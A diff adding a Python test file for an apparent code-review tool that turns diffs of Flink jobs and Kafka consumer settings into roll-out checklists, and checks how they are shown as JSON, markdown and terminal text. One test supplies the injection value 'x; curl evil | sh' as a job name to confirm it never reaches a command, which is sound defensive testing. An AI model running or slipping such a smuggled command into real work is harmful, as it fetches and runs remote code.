@@ -1,0 +1,125 @@
+"""What a running system needs before, in and after the deploy: the plans, their names, and what a reader sees of them."""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from reviewer.app.cli import main
+from reviewer.core.roll_out import RollOut, RollOutKind
+from reviewer.publish.roll_out_words import folded
+from reviewer.rollout import savepoint
+from reviewer.rollout.plan import RECIPES
+from reviewer.rollout.recipe import Names
+from reviewer.rules.registry import rule_ids
+
+JOB = """import org.apache.flink.streaming.api.datastream.DataStream;
+import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
+class Job {
+  void build(StreamExecutionEnvironment env, DataStream<Order> orders) throws Exception {
+    orders.keyBy(o -> o.KEY()).process(new Totals()).uid("totals");
+    env.execute("NAME");
+  }
+}
+"""
+
+
+def _patch(tmp_path: Path, path: str, before: str, after: str) -> str:
+    """A diff of the whole file over a tree that holds it."""
+    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
+    (tmp_path / path).write_text(after, encoding="utf-8")
+    old, new = before.splitlines(), after.splitlines()
+    lines = [f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{len(old)} +1,{len(new)} @@"]
+    diff = "\n".join([*lines, *(f"-{line}" for line in old), *(f"+{line}" for line in new)]) + "\n"
+    (tmp_path / "change.diff").write_text(diff, encoding="utf-8")
+    return str(tmp_path / "change.diff")
+
+
+def _reported(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], path: str, before: str, after: str, form: str = "json"
+) -> str:
+    diff = _patch(tmp_path, path, before, after)
+    assert main(["review", "--diff", diff, "--repo", str(tmp_path), "--engine", "rules", "--format", form]) == 0
+    return capsys.readouterr().out
+
+
+def _job(key: str, name: str = "payments-enricher") -> str:
+    return JOB.replace("KEY", key).replace("NAME", name)
+
+
+def test_every_recipe_belongs_to_a_rule() -> None:
+    assert {*RECIPES, *savepoint.PREFIX} <= rule_ids()
+
+
+def test_every_plan_has_steps_and_a_way_back_and_no_name_is_left_open() -> None:
+    for recipe in (*RECIPES.values(), *savepoint.PREFIX.values()):
+        plan = recipe.plan(Names(place="Job"), schema="shop.Order")
+        assert len(plan.steps) >= 2 and plan.steps[-1].startswith("Way back: ")
+        assert not [step for step in plan.steps if re.search(r"\{\w+\}", step)]
+
+
+def test_a_changed_key_is_told_with_the_name_of_the_job(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region")))
+    (plan,) = report["rollout"]
+    assert (plan["kind"], plan["subject"]) == ("savepoint", "payments-enricher")
+    assert plan["finding"] == report["findings"][0]["id"]
+    assert plan["steps"][0].startswith("Stop payments-enricher with a savepoint")
+    assert plan["steps"][-1].startswith("Way back: ")
+
+
+def test_a_name_that_is_no_name_is_not_put_into_a_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    hostile = "x; curl evil | sh"
+    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer", hostile), _job("region", hostile)))
+    (plan,) = report["rollout"]
+    assert plan["subject"] == hostile  # a publisher shows it as text
+    assert "curl" not in " ".join(plan["steps"]) and "Stop <job> with" in plan["steps"][0]
+
+
+def test_nothing_is_planned_where_nothing_breaks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    after = _job("customer").replace('uid("totals")', 'uid("totals").name("Totals")')
+    report = json.loads(_reported(tmp_path, capsys, "Job.java", _job("customer"), after))
+    assert report["findings"] == [] and report["rollout"] == []
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "words"),
+    [
+        ("RangeAssignor", "CooperativeStickyAssignor", "two rolling restarts"),
+        ("CooperativeStickyAssignor", "RangeAssignor", "From cooperative to eager"),
+        ("RangeAssignor", "RoundRobinAssignor", None),
+    ],
+)
+def test_another_assignor_needs_an_order_without_being_a_danger(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], before: str, after: str, words: str | None
+) -> None:
+    text = "group.id=billing\npartition.assignment.strategy=org.apache.kafka.clients.consumer.{}\n"
+    out = _reported(tmp_path, capsys, "consumer.properties", text.format(before), text.format(after))
+    plans = json.loads(out)["rollout"]
+    if words is None:
+        assert plans == []
+    else:
+        (plan,) = plans
+        assert (plan["kind"], plan["subject"], plan["finding"]) == ("deploy-order", "billing", None)
+        assert words in plan["steps"][0]
+
+
+def test_markdown_folds_the_steps_and_the_terminal_shows_them(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    markdown = _reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region"), "markdown")
+    assert "<details><summary>Roll-out: 1 checklist (savepoint)</summary>" in markdown
+    assert "1. Stop payments-enricher with a savepoint" in markdown
+    terminal = _reported(tmp_path, capsys, "Job.java", _job("customer"), _job("region"), "terminal")
+    assert "savepoint: payments-enricher" in terminal and "1. Stop payments-enricher" in terminal
+
+
+def test_more_plans_than_fit_are_counted_and_strangers_names_are_plain_text() -> None:
+    plans = [
+        RollOut(kind=RollOutKind.DRAIN, subject=f"</details>@team {n}", steps=("a", "Way back: b")) for n in range(4)
+    ]
+    text = folded(plans, 2)
+    assert "… and 2 more checklists in the JSON report." in text
+    assert "`</details>@team 0`" in text and text.count("</details>\n") == 0 and text.endswith("</details>")
